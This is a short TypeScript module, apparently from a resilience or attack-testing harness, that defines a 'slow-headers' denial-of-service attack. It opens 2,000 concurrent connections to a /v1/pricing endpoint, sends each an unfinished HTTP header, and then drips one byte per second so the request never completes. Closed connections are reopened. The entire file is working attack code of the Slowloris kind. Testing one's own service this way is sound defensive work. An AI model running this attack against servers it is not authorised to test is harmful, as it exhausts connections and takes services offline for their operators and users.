import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from '../attack.js'
import { firstAnswer } from '../attacker/sockets.js'

const CONNECTIONS = 2_000
const DRIP_MS = 1_000

export const slowHeaders: Attack = {
  name: 'slow-headers',
  summary: 'no key: 2,000 connections that send a byte of their headers each second, reopened when closed',
  prepare: ({ open, host, note }) => ({
    concurrency: CONNECTIONS,
    async strike(signal) {
      const socket = await open()
      socket.on('error', () => {})
      socket.write(`GET /v1/pricing HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `)
      const drip = setInterval(() => socket.writable && socket.write('x'), DRIP_MS)
      note(await firstAnswer(socket, signal))
      clearInterval(drip)
      socket.destroy()
      await sleep(DRIP_MS, undefined, { ref: false })
    },
  }),
}
